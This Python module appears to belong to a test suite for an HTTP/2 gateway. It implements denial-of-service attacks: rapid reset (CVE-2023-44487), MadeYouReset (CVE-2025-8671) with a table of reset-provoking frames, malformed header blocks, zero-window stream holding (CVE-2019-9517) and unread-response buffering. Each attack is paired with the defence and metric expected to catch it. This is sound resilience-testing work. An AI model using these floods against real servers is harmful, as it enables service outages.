"""Attacks with streams: opened, reset, provoked into a reset, or kept open."""

import asyncio
import contextlib
import struct

import wire
from catalogue import Metric, attack

REFUSED = wire.header_block(wire.ISSUE)
CHECK = wire.header_block(wire.CHECK)
REJECTED_CONNECTIONS = Metric("ott_gateway_http2_errors_total", {"scope": "connection"})


@attack(
    "rapid reset",
    stopped_by="limit on resets of unhandled streams",
    metric=REJECTED_CONNECTIONS,
    rate=5_000,
    unit="streams",
    ends_connections=True,
)
async def rapid_reset(stage):
    """CVE-2023-44487: each stream is opened and reset in the same write, so that the limit on
    concurrent streams never applies."""

    async def one(connection):
        while True:
            await stage.turn(50)
            streams = [connection.open_stream() for _ in range(50)]
            await connection.send(*(wire.headers(stream, REFUSED) + wire.reset(stream) for stream in streams))

    stage.ready()
    # Few enough connections that each exceeds the limit of 2,000 resets at once and 200/s, which a
    # client with timeouts may need.
    await stage.on_each(2, one)


@attack(
    "rapid reset, one stream at a time",
    stopped_by="limit on refused calls per address; work stops after a reset",
    metric=Metric("ott_gateway_http2_stream_resets_total"),
    rate=2_000,
    unit="streams",
)
async def slow_reset(stage):
    """CVE-2023-44487, slowed down: each stream is reset after its call has started, so that no counter
    of unhandled streams includes it."""

    async def one(connection):
        while True:
            await stage.turn()
            stream = connection.open_stream()
            await connection.send(wire.headers(stream, REFUSED), wire.data(stream, wire.message(b"x")))
            await asyncio.sleep(0)
            await connection.send(wire.reset(stream))

    stage.ready()
    await stage.on_each(8, one)


def _window_update(increment):
    return lambda stream: wire.raw(wire.WINDOW_UPDATE, stream, struct.pack(">I", increment))


# Frames that make a server reset a completely sent stream.
PROVOCATIONS = {
    "WINDOW_UPDATE of 0": _window_update(0),
    "WINDOW_UPDATE beyond the maximum": _window_update(2**31 - 1),
    "DATA after END_STREAM": lambda stream: wire.data(stream, b"x"),
    "HEADERS after END_STREAM": lambda stream: wire.headers(stream, REFUSED, "END_STREAM"),
    "PRIORITY that depends on itself": lambda stream: wire.raw(wire.PRIORITY, stream, struct.pack(">IB", stream, 0)),
    "PRIORITY of a wrong length": lambda stream: wire.raw(wire.PRIORITY, stream, b"\0"),
}


@attack(
    f"MadeYouReset, {len(PROVOCATIONS)} variants",
    stopped_by="limit on provoked resets per connection",
    metric=REJECTED_CONNECTIONS,
    rate=3_000,
    unit="streams",
    ends_connections=True,
)
async def made_you_reset(stage):
    """CVE-2025-8671: the client sends an invalid frame on each stream, so that the server
    resets it. The stream no longer counts, while the work for its call may go on."""

    def variant(frame):
        async def one(connection):
            while True:
                await stage.turn(10)
                streams = [connection.open_stream() for _ in range(10)]
                await connection.send(
                    *(wire.headers(stream, REFUSED, "END_STREAM") + frame(stream) for stream in streams)
                )

        return one

    stage.ready()
    await asyncio.gather(
        *(stage.on_each(2, variant(frame), name=name) for name, frame in PROVOCATIONS.items())
    )


# Each is a stream error (RFC 9113, section 8.1.1): the gateway never sees the call.
MALFORMED = {
    "an upper-case name": [("X-Upper", "1")],
    "a connection header": [("connection", "close")],
    "a pseudo-header after a header": [(":path", "/")],
}


@attack(
    "malformed requests",
    stopped_by="limit on provoked resets per connection",
    metric=Metric("ott_gateway_http2_errors_total", {"scope": "stream"}),
    rate=3_000,
    unit="streams",
    ends_connections=True,
)
async def malformed_requests(stage):
    """Requests that HTTP/2 forbids. The HTTP library resets their streams before the gateway's
    middleware sees a request."""

    def variant(more):
        block = wire.header_block(wire.ISSUE, more=more)

        async def one(connection):
            while True:
                await stage.turn(10)
                streams = [connection.open_stream() for _ in range(10)]
                await connection.send(*(wire.headers(stream, block, "END_STREAM") for stream in streams))

        return one

    stage.ready()
    await asyncio.gather(*(stage.on_each(2, variant(more), name=name) for name, more in MALFORMED.items()))


@attack(
    "zero window",
    stopped_by="limit on open streams of connections without an identified call",
    metric=Metric("ott_gateway_connections_paused_total"),
    rate=60,
    unit="connections",
    held=1_024,
    addresses=5,
)
async def zero_window(stage):
    """CVE-2019-9517 and similar: the client opens no flow-control window, so that no response can be
    sent and every stream stays open. Health checks need no credential and have a response body."""

    @contextlib.asynccontextmanager
    async def opening():
        async with stage.http2(settings={wire.INITIAL_WINDOW_SIZE: 0}) as connection:
            await _check(connection)
            yield connection.ended()

    await stage.hold(opening)


@attack(
    "unread responses",
    stopped_by="limit on refused calls per address; buffer size per connection",
    metric=Metric("ott_gateway_refused_calls_summarized_total"),
    rate=4_000,
    unit="calls",
)
async def never_reads(stage):
    """The client sends requests and never reads from its socket: responses fill the buffers of the
    kernel, and then those of the gateway."""

    async def one(connection):
        while True:
            await stage.turn(20)
            streams = [connection.open_stream() for _ in range(20)]
            await connection.send(*(wire.headers(stream, REFUSED, "END_STREAM") for stream in streams))

    stage.ready()
    await stage.on_each(8, one, reads=False)


@attack(
    "half-open health checks",
    stopped_by="limit on open streams of connections without an identified call",
    metric=Metric("ott_gateway_connections_paused_total"),
    rate=60,
    unit="connections",
    held=1_024,
    addresses=5,
)
async def half_open_health_checks(stage):
    """Health checks without a credential whose request never ends, 100 on each connection."""

    @contextlib.asynccontextmanager
    async def opening():
        async with stage.http2() as connection:
            streams = [connection.open_stream() for _ in range(wire.MAX_STREAMS)]
            await connection.send(*(wire.headers(stream, CHECK) for stream in streams))
            yield connection.ended()

    await stage.hold(opening)


async def _check(connection):
    for _ in range(wire.MAX_STREAMS):
        stream = connection.open_stream()
        await connection.send(wire.headers(stream, CHECK), wire.data(stream, wire.message(), "END_STREAM"))
